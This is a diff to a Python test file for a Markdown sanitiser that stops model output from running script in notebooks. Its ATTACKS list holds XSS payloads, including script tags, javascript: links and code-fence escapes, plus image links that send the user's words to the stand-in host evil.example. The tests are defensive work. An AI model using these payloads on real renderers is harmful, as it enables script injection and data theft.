@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import re
+from html.parser import HTMLParser
 
 import pytest
 from hypothesis import given
@@ -12,52 +13,92 @@ from ainet.markdown import harmless
 ATTACKS = [
     "<script>alert(1)</script>",
     '<img src=x onerror="alert(1)">',
-    "&lt;b&gt; <b>x</b>",
+    "<!-- --><script>alert(1)</script>",
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     r"[x](javascript\:alert(1))",
     "[x](&#106;avascript:alert(1))",
     "[x](javascript&colon;alert(1))",
+    "[x](\njavascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
     "[x]: javascript:alert(1)\n\n[x]",
+    "[x]:\njavascript:alert(1)\n\n[x]",
     "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x](https://evil.example/?q=what-you-said)",
+    "![x][y]\n\n[y]: https://evil.example/",
     "<javascript:alert(1)>",
     "```\nclosed\n```\n<script>alert(1)</script>",
     "~~~\nclosed\n~~~\n<script>alert(1)</script>",
     "```\n~~~\n```\n<script>alert(1)</script>",
     "````\n```\n````\n<script>alert(1)</script>",
-    "``` a`b\n<script>alert(1)</script>",
-    "    ```\n<script>alert(1)</script>",
+    "```\n  ```\n<script>alert(1)</script>\n```",
+    "```\n````  \n<script>alert(1)</script>\n```",
+    "``` a`b\n<script>alert(1)</script>\n```",
+    "    ```\n<script>alert(1)</script>\n    ```",
     "`x\n```\n`\n```\n<img src=x onerror=alert(1)>",
-    "> ```\n<script>alert(1)</script>",
-    "- ```\n<script>alert(1)</script>",
-    "``` `\n<script>alert(1)</script>\n```",
+    "> ```\n<script>alert(1)</script>\n> ```",
+    "- ```\n<script>alert(1)</script>\n  ```",
+    '[x]: https://a "\n```\n"\n<script>alert(1)</script>\n```',
+    "~~~ ```\n```\n~~~\n<script>alert(1)</script>\n```",
+    "$$ a\n```\n$$\n<script>alert(1)</script>",
+    "$$ a\n  ```\n$$\n<script>alert(1)</script>\n  ```",
+    "  ```\n```\n$a\n```\nb$ <script>alert(1)</script>\n```",
 ]
 
 
-def executes(html: str) -> bool:
-    """Return whether HTML that Markdown was turned into has a tag or an address that the text brought with it."""
-    unquoted = re.sub(r"<code[^>]*>.*?</code>", "", html, flags=re.DOTALL)
-    return bool(
-        re.search(r"<(script|img|b|svg|iframe)\b(?![^>]*\bdata-ok)", re.sub(r'<img src="https?:[^>]*>', "", unquoted))
-        or re.search(r"(href|src)\s*=\s*\"?\s*(javascript|vbscript|data):", html, re.IGNORECASE)
-    )
+class Tags(HTMLParser):
+    """Finds what acts in HTML: tags that Markdown has no sign for, addresses, event handlers."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.active: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag in {"script", "img"} or any(name.startswith("on") for name, _ in attrs):
+            self.active.append(tag)
+        self.active += [value for name, value in attrs if name == "href" and not re.match("https?:|#", value)]
+
+
+def acts(html: str) -> bool:
+    tags = Tags()
+    tags.feed(html)
+    return bool(tags.active)
 
 
 @pytest.mark.parametrize("text", ATTACKS)
 def test_what_a_model_says_cannot_run_in_a_notebook(text):
-    assert not executes(markdown2html_mistune(harmless(text)))
+    assert not acts(markdown2html_mistune(harmless(text)))
 
 
 def test_the_attacks_are_real():
-    working = [text for text in ATTACKS if "<script>" in text or "onerror" in text]
-    assert any(executes(markdown2html_mistune(text)) for text in working)
+    working = [text for text in ATTACKS if acts(markdown2html_mistune(text))]
+    assert len(working) > 0.8 * len(ATTACKS)
 
 
-@given(st.lists(st.sampled_from(["`", "```", "~~~", "\n", " ", "    ", "> ", "- ", "x", "<script>", "<b>", "$"])))
-def test_no_mixture_of_fences_and_tags_runs(pieces):
-    assert "<script>" not in re.sub(
-        r"<code[^>]*>.*?</code>", "", markdown2html_mistune(harmless("".join(pieces))), flags=re.DOTALL
-    )
+PIECES = [
+    "`",
+    "```",
+    "~~~",
+    "\n",
+    " ",
+    "    ",
+    "> ",
+    "- ",
+    "x",
+    "|",
+    "<script>",
+    "<img src=x>",
+    "$",
+    "$$",
+    "[x]",
+    "(",
+    ":",
+]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=30))
+def test_no_mixture_of_fences_formulas_and_tags_runs(pieces):
+    assert not acts(markdown2html_mistune(harmless("".join(pieces))))
 
 
 @pytest.mark.parametrize(
@@ -65,13 +106,15 @@ def test_no_mixture_of_fences_and_tags_runs(pieces):
     [
         "# A heading\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |",
         "```python\nif a < b and c & d:\n    print('<b>')\n```",
-        "see [the page](https://example.org/?x=1#y) and $x^2$",
-        "a ~~~ b\n~~~\n<b>\n~~~",
+        "```sh\necho $x <in >out\n```\nand $x < y$",
+        "see [the page](https://example.org/?x=1#y) and $x^2$; 1 < 2 & 3 &amp; `a[i]`",
+        "````\n```\n<b>\n````",
     ],
 )
 def test_ordinary_markdown_and_code_stay_as_they_are(text):
     assert harmless(text) == text
 
 
-def test_signs_outside_code_are_shown_as_they_were_written():
-    assert harmless("1 < 2 & 3 &amp; <b>") == "1 &lt; 2 &amp; 3 &amp;amp; &lt;b>"
+@pytest.mark.parametrize("text", [*ATTACKS, "an `vector<int>` here", "```\nnot closed <b>"])
+def test_the_text_looks_as_it_was_written(text):
+    assert harmless(text).replace("\u200b", "") == text
